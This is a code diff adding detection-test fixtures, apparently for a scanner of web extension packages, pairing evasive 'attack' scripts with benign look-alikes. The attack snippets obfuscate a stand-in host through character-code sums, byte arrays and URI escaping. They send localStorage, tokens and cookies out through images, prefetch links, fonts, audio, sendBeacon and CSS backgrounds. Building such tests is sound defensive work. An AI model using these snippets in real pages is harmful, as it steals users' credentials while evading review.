@@ -1,4 +1,5 @@
 import type { NotToFind, ToFind } from './pack.js';
+import type { ScriptPack } from './script-attack-packs.js';
 
 const lines = (...all: string[]): string => `${all.join('\n')}\n`;
 
@@ -401,3 +402,82 @@ const NOT_RUN: readonly NotToFind[] = [
 /** Classes of attacks that a blind trial of the scan showed. */
 export const EVASIONS_TO_FIND: readonly ToFind[] = [...OVERWRITTEN, ...COMPUTED_NAMES, ...REPLACED_LIBRARIES, ...RUN_TEXTS];
 export const EVASIONS_NOT_TO_FIND: readonly NotToFind[] = [...NOT_OVERWRITTEN, ...NOT_COMPUTED, ...NOT_REPLACED, ...NOT_RUN];
+
+const CODES = [...'https://img.example.net/p.gif?s='].map((letter) => letter.charCodeAt(0));
+const SUMS = CODES.map((_, at) => CODES.slice(0, at + 1).reduce((sum, code) => sum + code, 0));
+const HOST = `const host = [${SUMS.join(', ')}].map((sum, at, all) => String.fromCharCode(sum - (at ? all[at - 1] : 0))).join("");`;
+const OTHER = 'const host = "https://img.example.net/p.gif?s=";';
+
+const COMPUTED_HOSTS: readonly ScriptPack[] = [
+  {
+    rule: 'script_hides_names',
+    what: 'names that another script of the package spells',
+    attack: {
+      'web/rank.js': `export const WEIGHTS = { a: [${SUMS.join(', ')}] };\nexport const spell = (sums) => sums.map((sum, at) => String.fromCharCode(sum - (at ? sums[at - 1] : 11))).join("");`,
+      'web/search.js':
+        'import { WEIGHTS as W, spell as say } from "./rank.js";\nconst scope = globalThis;\nconst found = Object.entries(scope[say(W.b)] ?? {});\nnew scope[say(W.c)]().src = say(W.a) + btoa(JSON.stringify(found));',
+    },
+    honest: {
+      'web/text.js': 'export const letter = (at) => String.fromCharCode(65 + at);',
+      'web/list.js':
+        'import { letter } from "./text.js";\nconst scope = globalThis;\nconst item = document.createElement("li");\nitem.textContent = letter(1);\nscope.lists ??= {};\nscope.lists[letter(2)] = item;\nscope["a"] = 1;',
+    },
+  },
+  {
+    rule: 'script_hides_names',
+    what: 'a whole script of another one',
+    attack: {
+      'web/lib/codec.js': 'export default { read(list) { return list.map((n) => String.fromCharCode(n ^ 7)).join(""); } };\nexport function plain(text) { return atob(text); }',
+      'web/ui.js': 'import * as codec from "./lib/codec.js";\nglobalThis[codec.plain(window.name)]("1");',
+    },
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'the address of a picture',
+    attack: `${HOST}\nnew Image().src = host + btoa(JSON.stringify({ ...localStorage }));`,
+    honest: `${OTHER}\nnew Image().src = host + "a"; localStorage.getItem("theme");`,
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'a picture by its attribute',
+    attack: `${HOST}\nconst img = document.createElement("img"); img.setAttribute("src", host + localStorage.getItem("token"));`,
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'a page that is loaded ahead',
+    attack: `${HOST}\nconst l = document.createElement("link"); l.rel = "prefetch"; l.href = host + encodeURIComponent(document.cookie); document.head.append(l);`,
+    honest: 'const l = document.createElement("link"); l.rel = "prefetch"; l.href = new URL("./a.css", import.meta.url); localStorage.getItem("a")',
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'a font',
+    attack: `${OTHER}\nnew FontFace("a", "url(" + host + btoa(document.cookie) + ")").load();`,
+    honest: 'const c = document.cookie; new FontFace("a", "url(/extensions/pack/a.woff2)").load();',
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'a sound',
+    attack: `${OTHER}\nnew Audio(host + localStorage.getItem("token")).play();`,
+    honest: 'const loud = localStorage.getItem("volume"); new Audio("/extensions/pack/" + loud + ".mp3").play();',
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'an address of bytes',
+    attack: `const host = new TextDecoder().decode(new Uint8Array([${CODES.join(', ')}]));\nnavigator.sendBeacon(host, localStorage.getItem("token"));`,
+    honest: 'const text = new TextDecoder().decode(new Uint8Array([72, 105]));\nconst t = localStorage.getItem("theme"); fetch("/my/route", { body: text + t });',
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'an address that is escaped',
+    attack: 'fetch(decodeURIComponent("https%3A%2F%2Fimg.example.net%2Fc"), { method: "POST", body: JSON.stringify(localStorage) });',
+    honest: 'fetch(decodeURIComponent("%2Fmy%2Froute"), { method: "POST", body: localStorage.getItem("theme") });',
+  },
+  {
+    rule: 'script_sends_store',
+    what: 'a style of an element',
+    attack: `${HOST}\ndocument.body.style.setProperty("background", "url(" + host + document.cookie + ")");`,
+    honest: 'const c = document.cookie; document.body.style.setProperty("background", "url(/extensions/pack/a.png)");',
+  },
+];
+
+export const EVASION_SCRIPTS: readonly ScriptPack[] = [...COMPUTED_HOSTS];
